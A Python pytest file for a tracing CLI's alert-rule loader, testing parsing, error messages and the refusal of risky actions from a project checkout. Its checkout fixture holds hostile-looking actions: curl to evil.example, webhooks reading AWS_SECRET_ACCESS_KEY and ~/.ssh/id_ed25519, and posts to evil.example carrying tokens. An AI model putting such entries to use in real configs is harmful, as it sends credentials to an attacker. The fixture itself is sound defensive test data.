"""Rules and actions of the config: what they say, every fault at once, and what a checkout may not."""

from __future__ import annotations

import tomllib
from typing import Any

import pytest

from mplp_trace_cli.analysis.alert_rules import AlertSet, load_alerts
from mplp_trace_cli.config import options_from
from mplp_trace_cli.domain.alerts.alert import ActionKind, AlertAction, AlertRule, Severity
from mplp_trace_cli.domain.errors import ConfigInvalid

MINUTE = 60_000_000


def loaded(toml: str, *, from_project: bool = False) -> AlertSet:
    """The alerts of a config file with this text."""
    return load_alerts(options_from(tomllib.loads(toml))._replace(from_project=from_project))


def rule(**keys: Any) -> dict[str, Any]:
    """The table of a rule."""
    return {"name": "r", "condition": "error_rate > 5%", **keys}


def faults(*rules: Any, **actions: Any) -> list[str]:
    """What is wrong with these rules and actions."""
    with pytest.raises(ConfigInvalid) as caught:
        load_alerts(options_from({"alerts": {"rules": list(rules), "actions": actions}}))
    assert caught.value.message == "; ".join(caught.value.details["problems"])
    return list(caught.value.details["problems"])


def test_a_rule_with_everything() -> None:
    """Every key is read; spans are texts with units."""
    found = loaded(
        """
        [[alerts.rules]]
        name = "slow api"
        condition = "p95_response_time(type='api_request') >= 2s"
        window = "10m"
        for = "2m"
        cooldown = "1h"
        severity = "critical"
        group_by = ["context_id", "meta.region"]
        actions = ["slack", "pager"]

        [alerts.actions.slack]
        url = { env = "SLACK_URL" }

        [alerts.actions.pager]
        type = "command"
        argv = ["page"]
        """
    )
    (parsed,) = found.rules
    assert parsed.rule == AlertRule(
        "slow api",
        "p95_response_time(type='api_request') >= 2s",
        10 * MINUTE,
        2 * MINUTE,
        60 * MINUTE,
        Severity.CRITICAL,
        ("context_id", "meta.region"),
        ("slack", "pager"),
    )
    assert str(parsed.condition) == parsed.rule.condition
    assert found.actions == {
        "slack": AlertAction("slack", ActionKind.SLACK, {"url": {"env": "SLACK_URL"}}),
        "pager": AlertAction("pager", ActionKind.COMMAND, {"argv": ["page"]}),
    }
    assert found.ignored == ()


def test_a_rule_with_what_it_needs() -> None:
    """A window is five minutes, the severity a warning, and one text is a list of one."""
    found = loaded('[[alerts.rules]]\nname = "a"\ncondition = "x > 1"\ngroup_by = "labels.host"\n')
    assert found.rules[0].rule == AlertRule("a", "x > 1", 5 * MINUTE, group_by=("labels.host",))
    assert loaded("") == AlertSet((), {}, ())


def test_every_fault_at_once() -> None:
    """Each fault has its place; rules count from 1."""
    found = faults(
        rule(condition="error_rate > 5", windw="5m", actions=["slak", "slack"]),
        rule(name="r", severity="bad", window="0s", cooldown="soon"),
        rule(name="", condition=3),
        "x",
        slack={},
        pager={},
        mail={"type": "e-mail"},
        word="x",
    )
    assert found == [
        "alerts.actions.pager.type: required, one of email, slack, webhook, command",
        "alerts.actions.mail.type: 'e-mail' is not one of email, slack, webhook, command"
        " (did you mean email?)",
        "alerts.actions.word: must be a table, [alerts.actions.word]",
        "alerts.rules[1]: there is no such key, 'windw' is not one of name, condition, window, for, cooldown,"
        " severity, group_by, actions (did you mean window?)",
        "alerts.rules[1].condition: column 14: a share is from 0 to 1, or from 0% to 100% (hint: 5%)",
        "alerts.rules[1].actions: 'slak' is not one of slack, pager, mail, word (did you mean slack?)",
        "alerts.rules[2].name: 'r' is the name of alerts.rules[1] already",
        "alerts.rules[2].window: must be more than 0, up to 36500d",
        "alerts.rules[2].cooldown: 'soon' is not a duration (such as 250ms, 5s, 30m, 2h, 7d;"
        " a bare number is ms)",
        "alerts.rules[2].severity: 'bad' is not one of info, warning, high, critical",
        "alerts.rules[3].condition: must be text",
        "alerts.rules[3].name: required",
        "alerts.rules[4]: must be a table, [[alerts.rules]]",
    ]


@pytest.mark.parametrize(
    ("keys", "said"),
    [
        ({"name": "a\x1b[31m"}, ".name: must be 1-255 characters without control characters"),
        ({"name": "a\nb"}, ".name: must be 1-255 characters"),
        ({"name": "a" * 256}, ".name: must be 1-255 characters"),
        ({"window": True}, ".window: must be a duration such as 5m"),
        ({"window": "99999999d"}, ".window: must be more than 0, up to 36500d"),
        ({"for": "-5m"}, ".for: '-5m' is not a duration"),
        ({"group_by": 3}, ".group_by: must be a text, or a list of texts"),
        ({"group_by": "level"}, ".group_by: 'level' is not one of trace_type, status, context_id"),
        ({"group_by": "data.k"}, ".group_by: 'data.k' is not one of"),
        ({"group_by": "meta."}, ".group_by: 'meta.' is not one of"),
        (
            {"condition": "error_rate > 5% and event_count > 1", "group_by": "tag"},
            ".group_by: 'tag' is not one of context_id, execution_id, name, trace_type, which are",
        ),
        ({"condition": "x > 1", "group_by": "host"}, ".group_by: 'host' is not one of labels.KEY"),
        (
            {"condition": "x > 1 and error_rate > 5%", "group_by": "context_id"},
            ".group_by: figures over metrics and traces have no column in common to group by",
        ),
        ({"actions": ["slack"]}, ".actions: there is no [alerts.actions.slack]"),
        (
            {"actions": [{"type": "command"}]},
            ".actions: must be the NAME of an [alerts.actions.NAME], or a list of such",
        ),
    ],
)
def test_wrong_values(keys: dict[str, Any], said: str) -> None:
    """A wrong value is told with what it could have been."""
    (found,) = faults(rule(**keys))
    assert found.startswith(f"alerts.rules[1]{said}")


@pytest.mark.parametrize(
    ("table", "said"),
    [
        ({"rules": {}}, "alerts.rules: must be tables, [[alerts.rules]]"),
        ({"actions": []}, "alerts.actions: must be tables, [alerts.actions.NAME]"),
        ({"rule": []}, "alerts: there is no such key, 'rule' is not one of rules, actions"),
    ],
)  # fmt: skip
def test_wrong_tables(table: dict[str, Any], said: str) -> None:
    """The tables themselves have names and shapes."""
    with pytest.raises(ConfigInvalid) as caught:
        load_alerts(options_from({"alerts": table}))
    assert caught.value.message.startswith(said)


# -- what came with a checkout ---------------------------------------------------------------------

FROM_A_CHECKOUT = """
[[alerts.rules]]
name = "a"
condition = "error_rate > 5%"
actions = ["pager", "home", "file", "deep", "stolen", "both", "mailed", "fine"]

[alerts.actions.pager]
type = "command"
argv = ["curl", "evil.example"]

[alerts.actions.home]
type = "webhook"
url = { env = "AWS_SECRET_ACCESS_KEY" }

[alerts.actions.file]
type = "webhook"
url = { file = "~/.ssh/id_ed25519" }

[alerts.actions.deep]
type = "webhook"
url = "https://example.org"
headers = [{ Authorization = { env = ["MPLP_TRACE_TOKEN"] } }]

[alerts.actions.stolen]
type = "webhook"
url = "http://evil.example/x"
headers = { A = { env = "MPLP_TRACE_SLACK_URL" } }

[alerts.actions.both]
type = "webhook"
url = { env = "MPLP_TRACE_SLACK_URL" }
headers = { A = { env = "MPLP_TRACE_TOKEN" } }

[alerts.actions.mailed]
type = "email"
host = "evil.example"
username = "x"
password = { env = "MPLP_TRACE_MAIL_PASSWORD" }

[alerts.actions.fine]
type = "slack"
url = { env = "MPLP_TRACE_SLACK_URL" }
"""


def test_a_checkout_runs_and_reveals_nothing() -> None:
    """The rules of a project file count; its actions not, where they run something or read secrets."""
    found = loaded(FROM_A_CHECKOUT, from_project=True)
    assert list(found.actions) == ["fine"]
    assert found.rules[0].rule.actions == ("fine",)
    variable = "it reads a variable other than MPLP_TRACE_… for the whole url of slack or a webhook"
    assert [said.partition(",")[0].partition(" is left out: ")[::2] for said in found.ignored] == [
        ("alerts.actions.pager", "it runs a command"),
        ("alerts.actions.home", variable),
        ("alerts.actions.file", "it reads a file"),
        ("alerts.actions.deep", variable),
        ("alerts.actions.stolen", variable),
        ("alerts.actions.both", variable),
        ("alerts.actions.mailed", variable),
    ]


def test_one_s_own_file_may() -> None:
    """The same in the user's file, or in one that was named, counts as it stands."""
    found = loaded(FROM_A_CHECKOUT)
    assert list(found.actions) == [*("pager", "home", "file", "deep", "stolen", "both", "mailed", "fine")]
    assert found.ignored == ()


def test_a_checkout_is_still_checked() -> None:
    """What is left out is no excuse for a fault."""
    with pytest.raises(ConfigInvalid, match=r"alerts\.actions\.x\.type: required"):
        loaded("[alerts.actions.command]\n[alerts.actions.x]\n", from_project=True)
